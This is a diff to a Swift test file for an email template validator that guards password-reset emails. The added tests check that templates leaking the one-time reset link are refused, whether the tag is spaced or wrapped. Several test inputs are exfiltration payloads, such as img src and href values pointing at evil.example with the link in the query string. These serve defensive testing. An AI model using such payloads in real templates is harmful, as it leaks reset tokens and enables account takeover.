@@ -62,7 +62,9 @@ struct EmailTemplateTests {
             ])
         #expect(
             problems("{{#link}}x") == [
-                "HTML part, line 1, column 11: the template does not parse (a section is opened but never closed)"
+                "HTML part, line 1, column 11: the template does not parse (a section is opened but never closed)",
+                "HTML part, line 1, column 1: the one-time link is written {{link}} only, never as a section "
+                    + "({{#link}}, {{^link}})",
             ])
         #expect(
             problems("<p>{{link}}</p>", subject: "Two\nlines") == ["Subject, column 1: the subject must be one line"])
@@ -99,6 +101,10 @@ struct EmailTemplateTests {
         // Even a link's whole address is no longer the template's to write: the button is the portal's.
         #expect(refused(#"<p><a class="button" href="{{link}}">Reset</a></p>"#))
         #expect(refused(#"<p><a href="https://evil.example/">{{link}}</a></p>"#))
+        // However it is spaced or wrapped, it is the same tag.
+        #expect(refused(#"<img src="https://evil.example/?{{ link }}">"#))
+        #expect(refused(#"<p>{{#link}}<img src="https://evil.example/?{{.}}">{{/link}}</p>"#))
+        #expect(!refused(#"<p>{{ link }}</p>"#))
         #expect(refused(#"<img src="https://evil.example/?{{link}}">"#))
         #expect(refused(#"<a href="https://evil.example/?t={{link}}">Reset</a>"#))
         #expect(refused(#"<p style="background:url({{link}})">Hi</p>"#))
@@ -107,7 +113,8 @@ struct EmailTemplateTests {
         #expect(refused(#"<p>{{link}}</p>"#, text: "Open https://evil.example/?{{link}}"))
         #expect(
             !EmailTemplateValidator.validate(
-                EmailTemplate(subject: "Reset {{link}}", html: "<p>{{link}}</p>", text: "{{link}}"), for: .passwordReset
+                EmailTemplate(subject: "Reset {{ link }}", html: "<p>{{link}}</p>", text: "{{link}}"),
+                for: .passwordReset
             ).isEmpty, "never in the subject")
         let message =
             EmailTemplateValidator.validate(
